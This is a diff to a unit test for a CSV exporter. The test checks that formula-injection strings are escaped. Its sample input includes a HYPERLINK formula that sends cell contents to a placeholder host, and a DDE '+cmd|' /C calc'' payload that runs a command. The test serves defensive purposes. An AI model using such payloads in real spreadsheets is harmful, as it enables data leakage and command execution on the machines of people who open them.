@@ -153,7 +153,7 @@ describe('a record as CSV', () => {
   });
 
   it('holds no text that a spreadsheet would run, whatever a server said', async () => {
-    const nasty = '=HYPERLINK("https://example.org/?"&A1,"x");=1+1,@SUM(1)\r\n+cmd|\' /C calc\'!A0';
+    const nasty = '=HYPERLINK("https://example.org/?"&A1,"x");=1+1,@SUM(1)\r\n+cmd|\' /C calc\'!A0;"=2+2";  =3+3';
     const record = sampleRecord({
       change: (result) => ({
         ...failedResult(result),
@@ -165,7 +165,7 @@ describe('a record as CSV', () => {
     expect(pieces.filter((piece) => /^["\s]*[=+@]/u.test(piece))).toEqual([]);
     const [row] = await rowsOf(record);
     expect(row?.['failure']).toBe(
-      "'=HYPERLINK(\"https://example.org/?\"&A1,\"x\");'=1+1,'@SUM(1)\r\n'+cmd|' /C calc'!A0",
+      "'=HYPERLINK(\"https://example.org/?\"&A1,\"x\");'=1+1,'@SUM(1)\r\n'+cmd|' /C calc'!A0;'\"=2+2\";'  =3+3",
     );
   });
 
@@ -211,6 +211,6 @@ describe('cells', () => {
   );
 
   it('keep what only looks like a formula further in', () => {
-    expect(csvText([['a = b', 'x, -5 ms', 'a|=b']])).toBe('a = b,"x, -5 ms",a|=b\r\n');
+    expect(csvText([['a = b', 'x - 5 ms', 'a|=b']])).toBe('a = b,x - 5 ms,a|=b\r\n');
   });
 });
